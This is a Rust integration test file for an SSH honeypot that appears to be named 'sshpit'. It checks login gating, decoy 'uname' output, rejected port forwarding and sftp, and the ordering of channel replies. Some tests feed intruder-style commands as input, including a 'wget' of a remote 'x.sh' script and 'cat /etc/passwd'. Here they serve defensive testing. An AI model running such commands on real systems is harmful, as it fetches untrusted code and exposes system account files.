use std::{net::SocketAddr, sync::Arc, time::Duration};

use anyhow::{Result, bail};
use russh::{
    Channel, ChannelMsg, Sig, client::{self, AuthResult, Handler}, keys::{
        Algorithm, PrivateKey, PublicKey, ssh_key::{LineEnding, rand_core::OsRng}
    }
};
use sshpit::{
    auth::AuthGate, crypto::{honeypot_preferred, load_host_key}, server::{Honeypot, Listener, ShellMode, build_ssh_config}, shell::{DecoyProfile, FakeShellEngine}
};
use tokio::time::{Instant, timeout, timeout_at};

const WAIT: Duration = Duration::from_secs(10);
/// How long to keep listening for replies after the last request was sent.
const SETTLE: Duration = Duration::from_secs(1);

#[derive(Clone)]
struct TestClientHandler;

impl Handler for TestClientHandler {
    type Error = anyhow::Error;

    fn check_server_key(&mut self, _server_public_key: &PublicKey) -> impl std::future::Future<Output = Result<bool, Self::Error>> + Send {
        async { Ok(true) }
    }
}

async fn start_honeypot(mode: ShellMode) -> Result<SocketAddr> {
    let dir = tempfile::tempdir()?;
    let key_path = dir.path().join("ssh_host_ed25519_key");
    let key = PrivateKey::random(&mut OsRng, Algorithm::Ed25519)?;
    std::fs::write(&key_path, key.to_openssh(LineEnding::LF)?.as_bytes())?;

    let host_key = load_host_key(&key_path)?;
    let config = Arc::new(build_ssh_config(host_key, Duration::from_millis(10)));
    let ctx = Arc::new(Honeypot::new(
        AuthGate::default(),
        FakeShellEngine::new(DecoyProfile::default()),
        mode,
    ));

    let listener = Listener::bind("127.0.0.1:0".parse()?, config, ctx).await?;
    let addr = listener.local_addr()?;
    tokio::spawn(listener.serve());
    Ok(addr)
}

async fn connect(addr: SocketAddr) -> Result<client::Handle<TestClientHandler>> {
    let client_config = client::Config {
        preferred: honeypot_preferred(),
        ..Default::default()
    };
    let session = timeout(WAIT, client::connect(Arc::new(client_config), addr, TestClientHandler)).await??;
    Ok(session)
}

async fn login_as_root(addr: SocketAddr) -> Result<client::Handle<TestClientHandler>> {
    let mut session = connect(addr).await?;
    let auth = session.authenticate_password("root", "anything").await?;
    if !matches!(auth, AuthResult::Success) {
        bail!("root login was refused");
    }
    Ok(session)
}

/// Wait for the next request reply, collecting any data that arrives first.
async fn next_reply(channel: &mut Channel<client::Msg>, output: &mut Vec<u8>) -> Result<bool> {
    loop {
        match timeout(WAIT, channel.wait()).await? {
            Some(ChannelMsg::Success) => return Ok(true),
            Some(ChannelMsg::Failure) => return Ok(false),
            Some(ChannelMsg::Data { data }) => output.extend_from_slice(&data),
            Some(_) => {}
            None => bail!("channel closed before a reply arrived"),
        }
    }
}

/// Every reply that arrives within `SETTLE`, in order, collecting any data on the way.
async fn replies_within_settle(channel: &mut Channel<client::Msg>, output: &mut Vec<u8>) -> Result<Vec<bool>> {
    let deadline = Instant::now() + SETTLE;
    let mut replies = Vec::new();
    loop {
        match timeout_at(deadline, channel.wait()).await {
            Err(_) | Ok(None) => return Ok(replies),
            Ok(Some(ChannelMsg::Success)) => replies.push(true),
            Ok(Some(ChannelMsg::Failure)) => replies.push(false),
            Ok(Some(ChannelMsg::Data { data })) => output.extend_from_slice(&data),
            Ok(Some(_)) => {}
        }
    }
}

/// Collect data until the server closes the channel; returns the exit status if one was sent.
async fn drain(channel: &mut Channel<client::Msg>, output: &mut Vec<u8>) -> Result<Option<u32>> {
    let mut exit = None;
    loop {
        match timeout(WAIT, channel.wait()).await? {
            Some(ChannelMsg::Data { data }) => output.extend_from_slice(&data),
            Some(ChannelMsg::ExitStatus { exit_status }) => exit = Some(exit_status),
            Some(ChannelMsg::Close) | None => return Ok(exit),
            Some(_) => {}
        }
    }
}

async fn read_until(channel: &mut Channel<client::Msg>, output: &mut Vec<u8>, needle: &str) -> Result<()> {
    while !String::from_utf8_lossy(output).contains(needle) {
        match timeout(WAIT, channel.wait()).await? {
            Some(ChannelMsg::Data { data }) => output.extend_from_slice(&data),
            Some(_) => {}
            None => bail!("channel closed while waiting for {needle:?}"),
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_root_gets_in() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;

    let mut session = connect(addr).await?;
    let auth = session.authenticate_password("admin", "admin").await?;
    assert!(!matches!(auth, AuthResult::Success), "admin must be rejected");

    let auth = session.authenticate_password("root", "anything").await?;
    assert!(matches!(auth, AuthResult::Success));

    let mut empty = connect(addr).await?;
    let auth = empty.authenticate_password("root", "").await?;
    assert!(matches!(auth, AuthResult::Success));
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pty_then_exec_uname_returns_decoy_identity() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;
    let session = login_as_root(addr).await?;

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();

    channel.request_pty(true, "xterm", 80, 24, 0, 0, &[]).await?;
    assert!(next_reply(&mut channel, &mut output).await?, "pty-req must be accepted");

    channel.exec(true, "uname -a").await?;
    assert!(next_reply(&mut channel, &mut output).await?, "exec must be accepted");

    let exit = drain(&mut channel, &mut output).await?;
    let text = String::from_utf8_lossy(&output);
    assert!(text.contains("everbor"), "{text}");
    assert!(text.contains("2.6.1-64-generic"), "{text}");
    assert!(text.contains("\r\n"), "{text}");
    assert_eq!(exit, Some(0));
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_commands_are_refused_verbatim() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;
    let session = login_as_root(addr).await?;

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();
    channel.exec(true, "wget http://203.0.113.9/x.sh").await?;
    assert!(next_reply(&mut channel, &mut output).await?);
    drain(&mut channel, &mut output).await?;

    let text = String::from_utf8_lossy(&output);
    assert!(text.contains("wget, http://203.0.113.9/x.sh"), "{text}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rejected_channel_leaves_the_connection_usable() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;
    let session = login_as_root(addr).await?;

    let forwarded = session
        .channel_open_direct_tcpip("198.51.100.4", 80, "127.0.0.1", 40000)
        .await;
    assert!(forwarded.is_err(), "direct-tcpip must be rejected");

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();

    channel.request_subsystem(true, "sftp").await?;
    assert!(!next_reply(&mut channel, &mut output).await?, "subsystem must be declined");

    channel.request_shell(true).await?;
    assert!(next_reply(&mut channel, &mut output).await?, "shell must be accepted");
    read_until(&mut channel, &mut output, "root@everbor:~# ").await?;

    output.clear();
    channel.data(&b"cat /etc/passwd\r"[..]).await?;
    read_until(&mut channel, &mut output, "cat /etc/passwd\r\nroot@everbor:~# ").await?;

    channel.eof().await?;
    drain(&mut channel, &mut output).await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_mode_declines_exec() -> Result<()> {
    let addr = start_honeypot(ShellMode::Plain).await?;
    let session = login_as_root(addr).await?;

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();

    channel.request_pty(true, "xterm", 80, 24, 0, 0, &[]).await?;
    assert!(next_reply(&mut channel, &mut output).await?);

    channel.exec(true, "uname -a").await?;
    assert!(!next_reply(&mut channel, &mut output).await?, "exec must be declined in plain mode");
    assert!(output.is_empty());
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_login_sequence_gets_every_reply() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;
    let session = login_as_root(addr).await?;

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();

    channel.request_pty(true, "xterm-256color", 80, 24, 0, 0, &[]).await?;
    channel.set_env(false, "LANG", "C.UTF-8").await?;
    channel.request_shell(true).await?;

    assert_eq!(replies_within_settle(&mut channel, &mut output).await?, vec![true, true]);
    read_until(&mut channel, &mut output, "root@everbor:~# ").await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unanswered_env_does_not_steal_the_next_reply() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;
    let session = login_as_root(addr).await?;

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();

    channel.set_env(false, "LANG", "C").await?;
    channel.request_subsystem(true, "sftp").await?;

    assert_eq!(replies_within_settle(&mut channel, &mut output).await?, vec![false]);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn window_change_and_signal_get_no_reply_of_their_own() -> Result<()> {
    let addr = start_honeypot(ShellMode::Intercept).await?;
    let session = login_as_root(addr).await?;

    let mut channel = session.channel_open_session().await?;
    let mut output = Vec::new();

    channel.request_pty(true, "xterm", 80, 24, 0, 0, &[]).await?;
    assert!(next_reply(&mut channel, &mut output).await?);

    channel.window_change(132, 43, 0, 0).await?;
    channel.window_change(65535, 65535, 0, 0).await?;
    channel.signal(Sig::INT).await?;
    assert!(replies_within_settle(&mut channel, &mut output).await?.is_empty());

    channel.set_env(true, "TERM", "xterm").await?;
    assert_eq!(replies_within_settle(&mut channel, &mut output).await?, vec![true]);
    Ok(())
}
